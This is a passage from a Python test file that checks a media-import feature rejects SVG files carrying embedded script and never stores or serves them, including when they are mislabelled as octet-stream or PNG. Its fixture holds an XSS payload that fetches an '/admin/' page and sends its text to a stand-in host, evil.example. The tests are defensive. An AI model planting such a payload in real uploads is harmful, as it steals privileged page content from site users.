            b"fetch('/admin/').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))</script></svg>")
LOGO = dict(INTRO, name="logo.svg", size=len(LOGO_SVG), file={"mimeType": "image/svg+xml"})


@responses.activate
@pytest.mark.parametrize("reported", [
    {"name": "logo.svg", "file": {"mimeType": "image/svg+xml"}},
    {"name": "logo.svg", "file": {"mimeType": "application/octet-stream"}},
    {"name": "logo.png", "file": {"mimeType": "image/png"}},
], ids=["reported-svg", "octet-stream-named-svg", "claims-to-be-png"])
def test_an_imported_svg_with_a_script_fails_with_a_reason_and_is_never_served(ann, browser, media_root, reported):
    item = dict(LOGO, **reported)
    responses.get(ITEM, json=item)
    responses.get(CONTENT, status=302, headers={"Location": DOWNLOAD})
    responses.get(DOWNLOAD, body=LOGO_SVG, headers={"Content-Type": reported["file"]["mimeType"]})

    status, entry = run_task(pending(ann, item))

    assert (status, entry.media.name, entry.content_type) == (MediaEntry.Status.FAILED, "", "")
    assert entry.error, "the owner is told why"
    served = browser.get(reverse("mediaspace:entry_media", args=[entry.pk]))
    assert served.status_code == 404 and "svg" not in served["Content-Type"] and LOGO_SVG not in served.content
    assert not list(media_root.rglob("*.svg")) and not list(media_root.rglob("*.png"))


@responses.activate
@pytest.mark.parametrize("mime_type", ["image/svg+xml", "application/octet-stream"])
def test_the_picker_refuses_an_svg_whatever_microsoft_calls_it(browser, ann, queued, mime_type):
    responses.get(ITEM, json=dict(LOGO, file={"mimeType": mime_type}))
    response = select(browser, LOGO)
    assert flashed(response) == ["Not imported: logo.svg (Not a video, audio or image file)."]
    assert not MediaEntry.objects.filter(owner=ann).exists() and queued.jobs == []
